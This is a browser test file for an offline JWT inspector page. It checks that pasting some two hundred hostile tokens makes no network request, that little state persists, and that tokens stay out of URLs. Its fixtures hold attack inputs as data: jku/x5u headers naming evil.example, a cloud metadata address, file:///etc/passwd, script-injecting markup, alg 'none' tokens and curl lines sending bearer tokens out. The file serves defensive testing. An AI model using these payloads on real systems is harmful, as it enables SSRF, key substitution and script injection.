// Two hundred tokens that want the page to call somebody: it calls nobody. And nothing of a session is kept.
import assert from "node:assert/strict";
import { test } from "node:test";
import { expectClean, openPage } from "../harness.mjs";
import { keyText } from "../states/vectors.mjs";
import { GUIDE, command, example, expectOutcome, keyField, openWorkbench, tokenField, keptWhole } from "../workbench.mjs";

const encoded = (value) => Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");

const HOSTS = [
  "https://evil.example/keys", "http://127.0.0.1:1/keys", "//evil.example/x", "http://169.254.169.254/latest", "file:///etc/passwd", "ftp://evil.example/k",
  "ws://evil.example/", "javascript:fetch('https://evil.example')", "data:text/html,<script>fetch('https://evil.example')</script>", "https://user:pw@evil.example/",
];
const MARKUP = ["<img src=https://evil.example/x>", "<script src=https://evil.example/x.js></script>", "<link rel=prefetch href=https://evil.example>", "</textarea><iframe src=https://evil.example>", "url(https://evil.example/x)"];
const ALGORITHMS = ["HS256", "RS256", "ES256", "EdDSA", "none", "nOnE", "XX999", "PS256"];

/** Headers and claims that name hosts, in every place where a careless reader would look. */
const hostile = () => {
  const all = [];
  for (const [at, host] of HOSTS.entries()) {
    const alg = ALGORITHMS[at % ALGORITHMS.length];
    for (const header of [{ jku: host }, { x5u: host }, { jku: host, x5u: host, kid: host }, { jwk: { kty: "RSA", n: "AQAB", e: "AQAB", x5u: host } }, { kid: `../../${host}` }, { crit: ["jku"], jku: host }, { typ: host, cty: host }]) {
      all.push(`${encoded({ alg, ...header })}.${encoded({ iss: host, sub: "x" })}.AAAA`);
    }
    for (const claims of [{ iss: host }, { iss: host, aud: host, sub: host }, { picture: host, website: host, jwks_uri: host }, { _claim_sources: { a: { endpoint: host } } }, { cnf: { jku: host } }]) {
      all.push(`${encoded({ alg })}.${encoded(claims)}.AAAA`);
    }
  }
  for (const markup of MARKUP) {
    for (const place of ["iss", "name", "picture", markup]) all.push(`${encoded({ alg: "HS256" })}.${encoded({ [place]: markup })}.AAAA`);
    all.push(`${encoded({ alg: markup, kid: markup })}.${encoded({})}.`, `${encoded(markup)}.${encoded(markup)}.${encoded(markup)}`, markup, `Authorization: Bearer ${markup}`);
  }
  for (let at = 0; all.length < 220; at++) all.push(`curl -H 'Authorization: Bearer ${encoded({ alg: "RS256", jku: `https://evil.example/${at}` })}.${encoded({ iss: `https://evil.example/${at}` })}.AAAA' https://evil.example/${at}`);
  return all;
};

test("200 hostile tokens are pasted and not one request is made", async (t) => {
  const { page, log } = await openWorkbench(t);
  const tokens = hostile();
  assert.ok(tokens.length >= 200 && new Set(tokens).size >= 200, `${new Set(tokens).size} different tokens`);
  // A claim brings the words in, a key on a rare curve the second module, an SD-JWT what shows its inside; the page then has all that it ever loads.
  const words = page.waitForRequest(/\/words\./u);
  await tokenField(page).fill(GUIDE);
  await words;
  const second = page.waitForRequest(/\/extra\./u);
  await keyField(page).fill(`{"keys":[{"x5u":"https://evil.example/k",${keyText("p-384.public.jwk").trim().slice(1)}]}`);
  await second;
  const third = page.waitForRequest(/\/inside\./u);
  await tokenField(page).fill(`${GUIDE}~`);
  await third;
  await keptWhole(page);
  await page.waitForLoadState("networkidle");
  const before = { requests: log.requests.length, served: log.served.length };
  for (const token of tokens) {
    await tokenField(page).fill(token);
    await page.locator(".verdict-bar:not([data-outcome=accept])").waitFor();
  }
  await page.locator(".claim__more").first().click().catch(() => {});
  await page.waitForLoadState("networkidle");
  assert.deepEqual(log.requests.slice(before.requests), []);
  assert.deepEqual(log.served.slice(before.served), []);
  expectClean(log);
});

test("after a full session the browser holds the theme and the shortcut setting, nothing else", async (t) => {
  const { page, context } = await openWorkbench(t);
  for (const name of ["HS256, the guide’s", "RS256", "Encrypted (JWE)"]) await example(page, name);
  await command(page, "theme");
  await command(page, "lens: build");
  await page.getByRole("button", { name: "Make a key" }).click();
  await page.locator("#build-key option").first().waitFor({ state: "attached" });
  await page.getByRole("button", { name: "Sign", exact: true }).click();
  await page.locator(".build__token").waitFor();
  await page.evaluate(() => document.activeElement?.blur());
  await page.keyboard.press("?");
  await page.getByLabel("Single keys are shortcuts").uncheck();
  const kept = await page.evaluate(async () => ({
    local: { ...localStorage }, session: { ...sessionStorage }, databases: (await indexedDB.databases()).length, cookie: document.cookie, name: window.name,
    state: history.state, cached: (await Promise.all((await caches.keys()).map(async (name) => (await (await caches.open(name)).keys()).map((request) => new URL(request.url).pathname)))).flat(),
  }));
  assert.deepEqual({ ...kept, cached: [] }, { local: { theme: "light", shortcuts: "off" }, session: {}, databases: 0, cookie: "", name: "", state: null, cached: [] });
  assert.ok(kept.cached.every((path) => /^\/(?:index\.html|manifest\.webmanifest|(?:app|core|examples|extra|inside|style|words)\.[0-9a-f]{12}\.(?:js|css))$/u.test(path)), kept.cached.join(" "));
  assert.deepEqual(await context.cookies(), []);
});

test("the page shows what was loaded and the policy it runs under", async (t) => {
  // Not the workbench: its fixed clock takes the list of what was loaded away.
  const { page } = await openPage(t);
  await page.waitForLoadState("networkidle");
  await page.getByRole("button", { name: /^No network/u }).click();
  const text = await page.getByRole("dialog").innerText();
  assert.match(text, /No other host can be contacted; our own only for the listed files\./u);
  assert.match(text, /connect-src 'none'/u);
  assert.match(text, /\/core\.[0-9a-f]{12}\.js/u);
});

test("a token in view is never part of an address", async (t) => {
  const { page, log } = await openWorkbench(t);
  await example(page, "ES256");
  await expectOutcome(page, "accept");
  const token = await tokenField(page).inputValue();
  assert.ok(log.requests.every((address) => !address.includes(token.slice(0, 30))));
  assert.equal(await page.evaluate(() => location.hash + location.search), "");
});
